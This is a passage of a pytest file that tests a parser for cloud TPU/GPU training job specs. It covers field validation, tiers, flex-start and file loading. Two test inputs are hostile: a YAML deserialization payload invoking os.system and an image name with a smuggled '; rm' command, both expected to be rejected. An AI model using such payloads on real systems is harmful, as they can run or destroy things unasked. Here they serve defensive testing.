    msg: dict[str, Any] = tpu_message()
    msg["args"] = [msg]
    assert "cannot be represented as JSON" in str(error_of(msg))


def test_yaml_oddities_name_the_field() -> None:
    """YAML turns unquoted `on`, dates and numbers into other types; the error says which type."""
    msg = yaml.safe_load("labels: {team: 2024-01-01}\nenv: {DEBUG: on}")
    assert "got a date" in str(error_of({**tpu_message(), "labels": msg["labels"]}))
    assert "got a boolean" in str(error_of({**tpu_message(), "env": msg["env"]}))
    assert error_of({**tpu_message(), 1: "x"}).field == "1"


@settings(max_examples=300, deadline=None)
@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
        max_leaves=20,
    ),
    st.sampled_from(["action", "job_id", "machine", "zones", "image", "env", "labels", "ttl", "args", "x"]),
)
def test_any_value_in_any_field_gives_a_spec_error_or_a_spec(value: Any, path: str) -> None:
    msg = with_change(path, value)
    for data in (msg, json.dumps(msg, allow_nan=True)):
        try:
            parse_job_message(data)
        except SpecError as e:
            assert "\n" not in str(e)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes_give_a_spec_error_or_a_spec(data: bytes) -> None:
    try:
        parse_job_message(data)
    except SpecError as e:
        assert "\n" not in str(e)


# ---------------------------------------------------------------------------- files


def test_yaml_and_json_files_are_equivalent(tmp_path: Path) -> None:
    from_yaml = load_job_file(DATA / "job_tpu.yaml")
    json_file = tmp_path / "job.json"
    json_file.write_text(json.dumps(from_yaml))
    assert load_job_file(json_file) == from_yaml
    spec = parse_job_message(from_yaml)
    assert isinstance(spec, JobSpec) and spec.env == (("XLA_FLAGS", "--xla_dump_to=/tmp/xla"),)
    assert spec.args == ("--steps=20000", "--model=small")
    assert parse_job_message(load_job_file(DATA / "job_gpu.json")) == JobSpec(
        job_id="bert-ft-7",
        machine=GpuMachine("g2-standard-8", "nvidia-l4", 1),
        zones=("europe-west4-b", "europe-west4-c"),
        image="europe-docker.pkg.dev/ml-research-4821/respawn/trainer@sha256:"
        "3b1f9e0c7a2d4f6e8b0a1c3e5f7d9b2a4c6e8f0a1b3d5f7e9c2a4b6d8f0e1a3c",
        checkpoint_uri="gs://ml-research-4821-ckpt/runs/bert-ft-7",
        ttl_s=1800,
    )


def test_a_yml_file_may_hold_json(tmp_path: Path) -> None:
    f = tmp_path / "job.yml"
    f.write_text(json.dumps(tpu_message()))
    assert parse_job_message(load_job_file(f)) == parse_job_message(tpu_message())


@pytest.mark.parametrize(
    ("name", "content", "text"),
    [
        ("job.yaml", "zones: [us-central1-a\n", "not valid YAML at line"),
        ("job.yaml", "- a\n- b\n", "holds a list, not an object"),
        ("job.yaml", "", "holds null, not an object"),
        ("job.yaml", "a: &x [1]\nb: *x\n", "aliases"),
        ("job.yaml", "job_id: a\njob_id: b\n", "appears twice"),
        ("job.yaml", "x: !!python/object/apply:os.system ['echo hacked']\n", "not valid YAML"),
        ("job.json", "{'single': 'quotes'}", "not valid JSON"),
        ("job.json", '{"a": 1, "a": 2}', "appears twice"),
        ("job.json", "x" * (MAX_MESSAGE_BYTES + 1), "bytes"),
    ],
)
def test_bad_files(tmp_path: Path, name: str, content: str, text: str) -> None:
    f = tmp_path / name
    f.write_text(content)
    with pytest.raises(SpecError) as info:
        load_job_file(f)
    assert text in str(info.value) and "\n" not in str(info.value)


def test_missing_file(tmp_path: Path) -> None:
    with pytest.raises(SpecError) as info:
        load_job_file(tmp_path / "nope.yaml")
    assert "cannot read" in str(info.value) and "No such file" in str(info.value)


# ---------------------------------------------------------------------------- queued requests and tiers

TIERS = [
    {"provisioning": "spot", "zones": ["us-central1-a", "us-west4-a"], "move_on": {"after_preemptions": 2}},
    {
        "provisioning": "reservation",
        "reservation": "tpu-res-1",
        "zones": ["us-central1-a"],
        "move_on": {"after_stockout": "20m", "deadline_within": "2h"},
    },
    {"provisioning": "standard", "zones": ["us-east5-b"]},
]


def tiered() -> dict[str, Any]:
    msg = with_change("tiers", copy.deepcopy(TIERS))
    del msg["zones"], msg["provisioning"]
    return msg


def test_tiers_parse_in_order_and_round_trip() -> None:
    spec = parse_job_message(tiered())
    assert isinstance(spec, JobSpec)
    assert [(t.provisioning, t.zones, t.reservation) for t in spec.all_tiers] == [
        ("spot", ("us-central1-a", "us-west4-a"), None),
        ("reservation", ("us-central1-a",), "tpu-res-1"),
        ("standard", ("us-east5-b",), None),
    ]
    assert (spec.tiers[0].after_preemptions, spec.tiers[1].after_stockout_s, spec.tiers[1].deadline_within_s) == (
        2,
        1200,
        7200,
    )
    assert spec.zones == ("us-central1-a", "us-west4-a") and spec.provisioning == "spot"  # tier 0
    assert spec.every_zone == ("us-central1-a", "us-west4-a", "us-east5-b")
    assert parse_job_message(json.loads(json.dumps(spec_to_message(spec)))) == spec


def test_without_tiers_a_job_has_one_tier_of_its_zones() -> None:
    spec = parse_job_message(tpu_message())
    assert isinstance(spec, JobSpec) and spec.tiers == ()
    assert [(t.provisioning, t.zones, t.after_preemptions) for t in spec.all_tiers] == [("spot", spec.zones, None)]


@pytest.mark.parametrize(
    ("change", "field", "text"),
    [
        (lambda m: m.update(zones=["us-central1-a"]), "zones", "not allowed with tiers"),
        (lambda m: m.update(provisioning="spot"), "provisioning", "not allowed with tiers"),
        (lambda m: m.update(tiers=[]), "tiers", "0 tiers"),
        (lambda m: m["tiers"][1].pop("reservation"), "tiers[1].reservation", "missing"),
        (
            lambda m: m["tiers"][0].update(reservation="r"),
            "tiers[0].reservation",
            "only a reservation or reservation-bound tier",
        ),
        (lambda m: m["tiers"][2].update(move_on={"after_preemptions": 1}), "tiers[2].move_on", "the last tier"),
        (lambda m: m["tiers"][0].pop("move_on"), "tiers[0].move_on", "would never move on"),
        (
            lambda m: m["tiers"][0]["move_on"].update(after_preemptions=0),
            "tiers[0].move_on.after_preemptions",
            "out of range",
        ),
        (lambda m: m["tiers"][0]["move_on"].update(soon=1), "tiers[0].move_on.soon", "unknown field"),
        (
            lambda m: m["tiers"][1]["move_on"].update(after_stockout="a while"),
            "tiers[1].move_on.after_stockout",
            "not a duration",
        ),
        (lambda m: m["tiers"][2].update(provisioning="free"), "tiers[2].provisioning", "not a provisioning model"),
        (lambda m: m["tiers"][2].update(zones=["mars"]), "tiers[2].zones[0]", "is not a zone"),
        (lambda m: m["tiers"][2].pop("zones"), "tiers[2].zones", "missing"),
    ],
)
def test_each_bad_tier_names_the_field(change: Any, field: str, text: str) -> None:
    msg = tiered()
    change(msg)
    err = error_of(msg)
    assert err.field == field and text in str(err)


def test_a_tpu_machine_is_requested_as_a_node_or_a_queued_resource() -> None:
    spec = parse_job_message(with_change("machine.request", "queued"))
    assert isinstance(spec, JobSpec) and isinstance(spec.machine, TpuMachine)
    assert (spec.machine.request, spec.machine.queue_timeout_s) == ("queued", 1800)
    spec = parse_job_message(with_change("machine.queue_timeout", "5m", with_change("machine.request", "queued")))
    assert isinstance(spec, JobSpec) and spec.machine.queue_timeout_s == 300  # type: ignore[union-attr]
    assert parse_job_message(json.loads(json.dumps(spec_to_message(spec)))) == spec
    err = error_of(with_change("machine.request", "vm"))
    assert err.field == "machine.request" and '"queued" (a queued resource) or "node"' in str(err)
    err = error_of(with_change("machine.queue_timeout", "5m", with_change("machine.request", "node")))
    assert err.field == "machine.queue_timeout" and "only a queued request waits" in str(err)


# ---------------------------------------------------------------------------- which API, flex-start

IMAGE_FAMILY = "projects/ubuntu-os-accelerator-images/global/images/family/ubuntu-accel-2204-amd64-tpu-v5e-v5p-v6e"


def compute_message(accelerator_type: str = "v6e-16", **machine: Any) -> dict[str, Any]:
    """A TPU job through Compute Engine: no api (the generation's default), no runtime version."""
    return with_change("machine", {"kind": "tpu", "accelerator_type": accelerator_type, **machine})


def round_trips(spec: Any) -> None:
    assert isinstance(spec, JobSpec)
    assert parse_job_message(json.loads(json.dumps(spec_to_message(spec)))) == spec


def test_a_tpu_compute_engine_offers_goes_through_it_unless_the_job_says_tpu() -> None:
    spec = parse_job_message(compute_message())
    assert isinstance(spec, JobSpec) and isinstance(spec.machine, TpuMachine)
    assert (spec.machine.api, spec.machine.runtime_version, spec.machine.image) == ("compute", None, None)
    assert spec_to_message(spec)["machine"] == {"kind": "tpu", "accelerator_type": "v6e-16", "api": "compute"}
    round_trips(spec)
    spec = parse_job_message(compute_message(image=IMAGE_FAMILY))
    assert isinstance(spec, JobSpec) and spec.machine.image == IMAGE_FAMILY  # type: ignore[union-attr]
    round_trips(spec)
    tpu_api = compute_message(api="tpu", runtime_version="v2-alpha-tpuv6e")
    spec = parse_job_message(tpu_api)
    assert isinstance(spec, JobSpec) and isinstance(spec.machine, TpuMachine)
    assert (spec.machine.api, spec.machine.request) == ("tpu", "queued")
    assert spec_to_message(spec)["machine"] == {**tpu_api["machine"], "request": "queued", "queue_timeout": "30m"}
    round_trips(spec)
    spec = parse_job_message(tpu_message())  # v5e: the Cloud TPU API, as before
    assert isinstance(spec, JobSpec) and spec.machine.api == "tpu"
    assert "api" in spec_to_message(spec)["machine"]  # written out, so a message read back never changes API


@pytest.mark.parametrize(
    ("machine", "field", "error"),
    [
        (
            {"accelerator_type": "v5litepod-8", "api": "compute"},
            "machine.api",
            '"compute" does not offer v5litepod; allowed: tpu (Compute Engine offers v5p, v6e, tpu7x)',
        ),
        ({"accelerator_type": "tpu7x-8", "api": "tpu", "runtime_version": "v2"}, "machine.api", '"tpu" does not offer'),
        ({"api": "gke"}, "machine.api", '"gke" is not an API; allowed: compute, tpu'),
        (
            {"runtime_version": "v2-alpha-tpuv6e"},
            "machine.runtime_version",
            'not used with api compute, the default for v6e; allowed: machine.image, or machine.api "tpu"',
        ),
        (
            {"api": "compute", "runtime_version": "v2-alpha-tpuv6e"},
            "machine.runtime_version",
            'not used with api compute; allowed: machine.image, or machine.api "tpu"',
        ),
        ({"request": "node"}, "machine.request", "not used with api compute"),
        ({"api": "tpu", "image": IMAGE_FAMILY, "runtime_version": "v2"}, "machine.image", "not used with api tpu"),
        ({"api": "tpu"}, "machine.runtime_version", "missing; allowed: required for api tpu"),
        ({"api": "tpu", "runtime_version": None}, "machine.runtime_version", "missing"),
        ({"image": "ubuntu-accel-2204"}, "machine.image", "is not a boot image or image family"),
        ({"image": "projects/p/global/images/x; rm"}, "machine.image", "is not a boot image"),
        ({"accelerator_type": "tpu7x-12"}, "machine.accelerator_type", "tpu7x has no size '12'"),
        ({"queue_timeout": "10m"}, "machine.queue_timeout", "only a flex-start request waits for capacity"),
    ],
)
def test_what_does_not_combine_with_the_api_is_one_line(machine: dict[str, Any], field: str, error: str) -> None:
    err = error_of(compute_message(**machine))
    assert err.field == field and error in str(err), str(err)
    assert "\n" not in str(err)


def test_a_slice_of_every_compute_engine_generation_parses() -> None:
    for accelerator_type in ("v5p-8", "v5p-128", "v6e-1", "v6e-256", "tpu7x-8", "tpu7x-64"):
        spec = parse_job_message(compute_message(accelerator_type))
        assert isinstance(spec, JobSpec) and spec.machine.api == "compute", accelerator_type


def flex_start(machine: dict[str, Any] | None = None, **fields: Any) -> dict[str, Any]:
    msg = compute_message(**(machine or {}))
    msg.update(provisioning="flex-start", **fields)
    return msg


def test_flex_start_on_compute_engine_with_its_run_duration_and_queue_wait() -> None:
    spec = parse_job_message(flex_start({"queue_timeout": "45m"}, max_run_duration="3d"))
    assert isinstance(spec, JobSpec)
    assert (spec.provisioning, spec.max_run_duration_s, spec.machine.queue_timeout_s) == ("flex-start", 259200, 2700)
    assert spec.all_tiers[0].max_run_duration_s == 259200
    round_trips(spec)
    spec = parse_job_message(flex_start())  # no duration: the time left to the TTL (model.flex_start_run_s)
    assert isinstance(spec, JobSpec) and spec.max_run_duration_s is None
    assert "max_run_duration" not in spec_to_message(spec)
    gpu = with_change("machine", {**gpu_machine(), "queue_timeout": "1h"})
    spec = parse_job_message({**gpu, "provisioning": "flex-start", "max_run_duration": "8h"})
    assert isinstance(spec, JobSpec) and (spec.machine.queue_timeout_s, spec.max_run_duration_s) == (3600, 28800)
    round_trips(spec)


def test_flex_start_tiers_carry_their_own_run_duration() -> None:
    msg = compute_message()
    del msg["zones"], msg["provisioning"]
    msg["tiers"] = [
        {
            "provisioning": "flex-start",
            "zones": ["us-east5-b"],
            "max_run_duration": "12h",
            "move_on": {"after_stockout": "1h"},
        },
        {"provisioning": "spot", "zones": ["us-east5-a"]},
    ]
    spec = parse_job_message(msg)
    assert isinstance(spec, JobSpec)
    assert [t.max_run_duration_s for t in spec.all_tiers] == [43200, None]
    assert (spec.provisioning, spec.max_run_duration_s) == ("flex-start", 43200)  # tier 0's, as zones are
    round_trips(spec)
    msg["machine"]["queue_timeout"] = "20m"  # a flex-start tier waits in a queue
    round_trips(parse_job_message(msg))
    msg["max_run_duration"] = "1h"
    err = error_of(msg)
    assert err.field == "max_run_duration" and "not allowed with tiers" in str(err)
    del msg["max_run_duration"]
    msg["tiers"][1]["max_run_duration"] = "1h"
    err = error_of(msg)
    assert err.field == "tiers[1].max_run_duration" and "only a flex-start machine has a maximum run duration" in str(
        err
    )


@pytest.mark.parametrize(
    ("msg", "field", "error"),
    [
        (
            with_change("provisioning", "flex-start"),
            "provisioning",
            '"flex-start" is Compute Engine\'s, not the Cloud TPU API\'s; allowed: machine.api "compute" (v5p, v6e, '
            'tpu7x), or request "queued" to wait',
        ),
        (flex_start(max_run_duration="8d"), "max_run_duration", "out of range; allowed: a duration like 90m"),
        (flex_start(max_run_duration="30s"), "max_run_duration", "out of range"),
        (with_change("max_run_duration", "1h"), "max_run_duration", "only a flex-start machine has a maximum run"),
        (
            flex_start({"queue_timeout": "3h"}),
            "machine.queue_timeout",
            "longer than Compute Engine waits for flex-start capacity; allowed: from 90s to 2h",
        ),
        (
            flex_start({"queue_timeout": "60s"}),
            "machine.queue_timeout",
            '"60s" is shorter than Compute Engine lets a request wait for flex-start capacity; allowed: from 90s to 2h',
        ),
        (
            compute_message("v5p-8192"),
            "machine.accelerator_type",
            "v5p-8192 is 1024 VMs on Compute Engine, more than a zonal managed instance group holds; allowed: a "
            'slice of at most 1000 VMs, or machine.api "tpu"',
        ),
        (
            {**compute_message(), "provisioning": "preemptible"},
            "provisioning",
            '"preemptible" is not offered for TPUs on Compute Engine; allowed: spot, or machine.api "tpu"',
        ),
        (
            with_change("machine", {**gpu_machine(), "queue_timeout": "1h"}),
            "machine.queue_timeout",
            "only a flex-start request waits for capacity on Compute Engine; allowed: a tier with provisioning",
        ),
        (with_change("job_id", "llm-a1-w"), "job_id", "ends like a slice's VM names"),
    ],
)
def test_flex_start_and_its_fields_only_where_they_apply(msg: dict[str, Any], field: str, error: str) -> None:
    err = error_of(msg)
    assert err.field == field and error in str(err), str(err)


def reservation_bound(machine: dict[str, Any], **tier: Any) -> dict[str, Any]:
    msg = compute_message(**machine)
    del msg["zones"], msg["provisioning"]
    msg["tiers"] = [{"provisioning": "reservation-bound", "zones": ["us-east5-b"], **tier}]
    return msg


def test_a_reservation_bound_tier_names_its_calendar_mode_reservation() -> None:
    spec = parse_job_message(reservation_bound({"accelerator_type": "v6e-16"}, reservation="v6e-calendar-1"))
    assert isinstance(spec, JobSpec)
    assert [(t.provisioning, t.reservation) for t in spec.all_tiers] == [("reservation-bound", "v6e-calendar-1")]
    round_trips(spec)


@pytest.mark.parametrize(
    ("msg", "field", "error"),
    [
        (reservation_bound({}), "tiers[0].reservation", "missing; allowed: the name of a reservation"),
        (
            reservation_bound({"api": "tpu", "runtime_version": "v2-alpha-tpuv6e"}, reservation="r1"),
            "tiers[0].provisioning",
            '"reservation-bound" is Compute Engine\'s (calendar-mode reservations); the Cloud TPU API has no such '
            'provisioning model; allowed: machine.api "compute" (v5p, v6e, tpu7x), or provisioning "reservation"',
        ),
        (
            {**compute_message(), "provisioning": "reservation-bound"},
            "provisioning",
            "not a provisioning model",
        ),
    ],
)
def test_reservation_bound_only_where_it_applies(msg: dict[str, Any], field: str, error: str) -> None:
    err = error_of(msg)
    assert err.field == field and error in str(err), str(err)


def test_a_gpu_may_still_be_preemptible_and_a_tpu_api_tpu_may_still_queue() -> None:
    assert isinstance(
        parse_job_message({**with_change("machine", gpu_machine()), "provisioning": "preemptible"}), JobSpec
    )
    assert isinstance(parse_job_message(with_change("provisioning", "preemptible")), JobSpec)  # v5e, api tpu
    assert isinstance(parse_job_message(with_change("job_id", "llm-a1-web")), JobSpec)


@pytest.mark.parametrize("name", ["quickstart.yaml", "slice.yaml", "tiers.yaml", "compute-slice.yaml"])
def test_each_example_job_parses_through_the_api_its_generation_uses(name: str) -> None:
    spec = parse_job_message(load_job_file(DATA.parent.parent / "examples" / name))
    assert isinstance(spec, JobSpec) and isinstance(spec.machine, TpuMachine)
    compute = name == "compute-slice.yaml"  # v6e: Compute Engine; the v5e examples stay on the Cloud TPU API
    assert spec.machine.api == ("compute" if compute else "tpu")
    assert (spec.machine.runtime_version is None) == compute


def test_every_example_job_parses() -> None:
    """Every job file under examples/ (the GPU one, the bring-your-own one among them) is a valid submit message."""
    files = sorted((DATA.parent.parent / "examples").glob("**/*.yaml"))
    assert {"gpu.yaml", "quickstart.yaml", "job.yaml"} <= {f.name for f in files}
    for path in files:  # examples/gpu.yaml names no image: it runs the deployment's trainer image of its kind
        assert isinstance(parse_job_message(load_job_file(path), DEFAULT_IMAGES), JobSpec), path


# ---------------------------------------------------------------------------- placement and back to Spot


def test_placement_is_ranked_unless_the_job_says_ordered() -> None:
    assert parse_job_message(tpu_message()).placement == "ranked"  # type: ignore[union-attr]
    spec = parse_job_message(with_change("placement", "ordered"))
    assert isinstance(spec, JobSpec) and spec.placement == "ordered"
    assert spec_to_message(spec)["placement"] == "ordered" and "placement" not in spec_to_message(replace_ranked(spec))
    assert parse_job_message(json.loads(json.dumps(spec_to_message(spec)))) == spec
    err = error_of(with_change("placement", "random"))
    assert err.field == "placement" and "ranked, ordered" in str(err)


def replace_ranked(spec: JobSpec) -> JobSpec:
    return dataclasses.replace(spec, placement="ranked")


def test_a_fallback_tier_goes_back_to_spot_after_two_hours_unless_it_says_otherwise() -> None:
    msg = tiered()
    msg["tiers"][1]["back_to_spot_after"] = "30m"
    msg["tiers"][2]["back_to_spot_after"] = None
    spec = parse_job_message(msg)
    assert isinstance(spec, JobSpec)
    assert [t.back_to_spot_after_s for t in spec.tiers] == [7200, 1800, None]
    assert parse_job_message(json.loads(json.dumps(spec_to_message(spec)))) == spec
    assert "back_to_spot_after" not in spec_to_message(spec)["tiers"][0]  # a Spot tier never shows it
    assert parse_job_message(tiered()).tiers[1].back_to_spot_after_s == 7200  # type: ignore[union-attr]


def test_a_spot_tier_has_no_back_to_spot_after() -> None:
    msg = tiered()
    msg["tiers"][0]["back_to_spot_after"] = "1h"
    err = error_of(msg)
    assert err.field == "tiers[0].back_to_spot_after" and "no Spot to go back to" in str(err)
    msg = tiered()
    msg["tiers"][1]["back_to_spot_after"] = "soon"
    assert error_of(msg).field == "tiers[1].back_to_spot_after"
